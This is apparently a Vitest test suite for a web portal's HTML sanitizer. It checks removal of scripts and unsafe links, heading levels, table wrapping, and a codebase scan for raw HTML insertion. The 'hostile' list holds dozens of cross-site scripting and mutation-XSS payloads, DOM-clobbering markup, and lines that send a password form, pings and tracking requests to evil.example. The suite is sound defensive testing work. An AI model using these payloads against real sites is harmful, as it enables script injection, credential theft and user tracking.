import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from '../../../../web/design/html/sanitize-html.ts';

const text = (html: string, headingLevel = 2) =>
  sanitizeHtml(html, { browser: window, headingLevel, idPrefix: 't-', tableLabel: 'Table' });

function shown(html: string): string {
  const box = document.createElement('div');
  box.append(text(html).content);
  return box.innerHTML;
}

/**
 * Elements and attributes of the shown nodes that could run code, load from elsewhere, or cover the
 * page.
 */
function dangers(box: ParentNode): string[] {
  return [...box.querySelectorAll('*')].flatMap((element) => {
    const bad =
      /^(script|style|iframe|object|embed|form|input|button|textarea|select|base|meta|link|svg|math|template|video|audio)$/u;
    const attributes = element.getAttributeNames().filter((name) => {
      const value = element.getAttribute(name) ?? '';
      if (
        /^on|^(style|class|name|srcset|formaction|action|background|ping|srcdoc|xlink:href)$/u.test(
          name,
        )
      ) {
        return value !== 'outside-text-table';
      }
      if (name === 'id') return !value.startsWith('t-');
      if (name === 'href') return !/^(https?:|mailto:|tel:|\/|#t-|[\w.?-]+$)/u.test(value);
      return name === 'src' && !/^(\/files\/|data:image\/png)/u.test(value);
    });
    return [...(bad.test(element.localName) ? [element.localName] : []), ...attributes];
  });
}

const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)//',
  '<IMG SRC=javascript:alert(1)>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://a.example" onclick="alert(1)" ping="https://evil.example">x</a>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<img src="https://evil.example/track.png">',
  '<img src="//evil.example/track.png">',
  '<img src="/graphql?query={viewer{id}}">',
  '<img src="/files/../graphql">',
  '<img src="/files/%2e%2e/graphql">',
  '<img src="/\\evil.example/files/x.png">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="data:text/html;base64,PHN2Zz4=">',
  '<img src="data:image/png,<svg onload=alert(1)>">',
  '<img srcset="https://evil.example/x.png 2x" src="/files/a.png">',
  '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
  '<a id="location" name="location">x</a>',
  '<img name="getElementById" src="/files/a.png">',
  '<p id="main">x</p><a name="menu">y</a>',
  '<div class="workbench-page" tabindex=0 role="dialog" aria-label="sign in">x</div>',
  '<x-evil onclick=alert(1)>x</x-evil>',
  '<video src="https://evil.example/x.mp4" autoplay></video>',
  '<p contenteditable onfocus=alert(1) autofocus tabindex=1>x</p>',
];

describe('HTML from outside', () => {
  it.each(hostile)('is harmless when it is shown: %s', (html) => {
    expect(dangers(text(html).content)).toEqual([]);
  });

  it('would be judged harmful without sanitizing', () => {
    const harmless = hostile.filter((html) => {
      const { body } = new DOMParser().parseFromString(html, 'text/html');
      return body.getAttributeNames().length === 0 && dangers(body).length === 0;
    });
    // Content of the head, and what other parsers read differently.
    expect(hostile.length - harmless.length).toBeGreaterThan(40);
  });

  it('means the same when it is parsed a second time', () => {
    for (const html of hostile) {
      const once = shown(html);
      const again = document.createElement('div');
      again.innerHTML = once;
      expect(again.innerHTML).toBe(once);
    }
  });

  it('keeps the elements that structure a text', () => {
    const html =
      '<p>Press <kbd>F2</kbd>, <b>then</b> <em>wait</em>.</p><ol start="3"><li>a</li></ol><dl><dt>a</dt><dd>b</dd></dl><pre>x</pre>';
    expect(shown(html)).toBe(html);
  });

  it('keeps text that looks like code', () => {
    expect(shown('<p>javascript:alert(1) &lt;script&gt;</p>')).toBe(
      '<p>javascript:alert(1) &lt;script&gt;</p>',
    );
  });

  it('opens links in a separate window without an opener, except links within the text', () => {
    expect(shown('<a href="https://a.example/x">a</a>')).toBe(
      '<a href="https://a.example/x" target="_blank" rel="noopener noreferrer">a</a>',
    );
    expect(shown('<a href="/page" target="_top" rel="opener">a</a>')).toBe(
      '<a href="/page" target="_blank" rel="noopener noreferrer">a</a>',
    );
    expect(shown('<h2 id="one">One</h2><a href="#one">up</a>')).toBe(
      '<h2 id="t-one" tabindex="-1">One</h2><a href="#t-one">up</a>',
    );
  });

  it.each([
    'ftp://a.example/x',
    'sms:10086',
    'callto:10086',
    'xmpp:a@b.example',
    'matrix:u/a:b',
    'cid:1',
  ])('links only to the web, to mail and to telephone, not to %s', (href) => {
    expect(shown(`<a href="${href}">a</a>`)).toBe('<a>a</a>');
    for (const allowed of ['http://a.example/', 'mailto:a@b.example', 'tel:10086'])
      expect(shown(`<a href="${allowed}">a</a>`)).toContain(`href="${allowed}"`);
  });

  it('shows pictures of its own and of this server, and the alternative text of the others', () => {
    expect(shown('<img src="/files/manual/a.png">')).toBe(
      '<img src="/files/manual/a.png" alt="" loading="lazy">',
    );
    expect(shown('<img alt="Dot" src="data:image/png;base64,iVBORw0KGgo=">')).toContain(
      'src="data:image/png;base64,iVBORw0KGgo="',
    );
    expect(shown('<p>See <img src="https://elsewhere.example/a.png" alt="the form"></p>')).toBe(
      '<p>See the form</p>',
    );
  });

  it('puts a table into a named, scrollable box that the keyboard can reach', () => {
    const table = '<table><caption>Codes</caption><tbody><tr><td>1</td></tr></tbody></table>';
    expect(shown(table)).toBe(
      `<div class="outside-text-table" role="region" tabindex="0" aria-label="Codes">${table}</div>`,
    );
    expect(
      shown('<table><tbody><tr><td><table></table></td></tr></tbody></table>').match(
        /role="region"/gu,
      ),
    ).toHaveLength(1);
  });

  it('may have any size and any syntax errors', () => {
    expect(shown('')).toBe('');
    expect(shown('<<<>>><p')).not.toContain('<p>');
    expect(shown('<b>'.repeat(2000))).not.toContain('script');
    expect(shown('字'.repeat(100_000))).toHaveLength(100_000);
  });
});

describe('The headings of a text', () => {
  const outline = (html: string, level?: number) => {
    const { content, headings } = text(html, level);
    const elements = [...content.querySelectorAll('h1, h2, h3, h4, h5, h6')].map(
      ({ localName }) => localName,
    );
    return { elements, headings };
  };

  it('are below the heading of the page, whatever their level was', () => {
    expect(outline('<h1>a</h1><h2>b</h2><h3>c</h3><h1>d</h1>').elements).toEqual([
      'h2',
      'h3',
      'h4',
      'h2',
    ]);
    expect(outline('<h4>a</h4><h6>b</h6>').elements).toEqual(['h2', 'h3']);
    expect(outline('<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4>', 4).elements).toEqual([
      'h4',
      'h5',
      'h6',
      'h6',
    ]);
  });

  it('can be linked to, also two with the same text and those without an id', () => {
    expect(outline('<h2>Start</h2><h2>Start</h2><h3 id="x y">To  <i>do</i></h3>').headings).toEqual(
      [
        { id: 't-heading-1', text: 'Start', depth: 1 },
        { id: 't-heading-2', text: 'Start', depth: 1 },
        { id: 't-heading-3', text: 'To do', depth: 2 },
      ],
    );
  });

  it('are dropped when they are empty', () => {
    expect(outline('<h1> </h1><h2>a</h2>').elements).toEqual(['h2']);
    expect(outline('<p>none</p>').headings).toEqual([]);
  });
});

describe('The portal', () => {
  it('inserts foreign HTML into a page in no other way', () => {
    const raw =
      /dangerouslySetInnerHTML|\.(?:inner|outer)HTML|insertAdjacentHTML|document\.write|srcDoc|createContextualFragment/u;
    const sources = readdirSync('web', { recursive: true, encoding: 'utf8' })
      .map((path) => join('web', path))
      .filter((path) => /\.tsx?$/u.test(path) && !/^web\/dist|\.gen\.ts$/u.test(path));
    expect(sources.length).toBeGreaterThan(100);
    expect(sources.filter((path) => raw.test(readFileSync(path, 'utf8')))).toEqual([]);
  });
});
